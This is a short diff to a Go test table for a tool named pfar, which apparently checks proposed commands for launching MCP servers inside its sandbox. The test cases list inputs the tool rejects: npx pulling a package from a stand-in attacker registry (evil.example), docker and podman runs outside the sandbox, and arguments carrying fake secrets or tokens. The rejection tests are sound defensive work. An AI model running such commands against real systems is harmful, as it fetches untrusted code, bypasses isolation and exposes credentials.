@@ -61,6 +61,8 @@ func TestPropose(t *testing.T) {
 		{words: "-- npx --registry=https://evil.example acme@1.0.0", failure: "options that pfar does not know"},
 		{words: "-- docker run -i x", failure: "docker would run the server outside of pfar's sandbox",
 			hint: "pfar add npm:"},
+		{words: "-- docker run -i --rm ghcr.io/github/github-mcp-server:latest",
+			failure: "docker would run the server outside of pfar's sandbox", hint: "pfar add github runs npm:"},
 		{words: "-- /usr/bin/podman run -i x", failure: "podman would run"},
 		{words: "-- TOKEN=hunter2 npx acme@1.0.0", failure: "begins with a program, not with a variable"},
 		{words: "-- /opt/x ghp_hunter2hunter2hunter2hunter2hunter2hunt", failure: "an argument looks like a secret"},
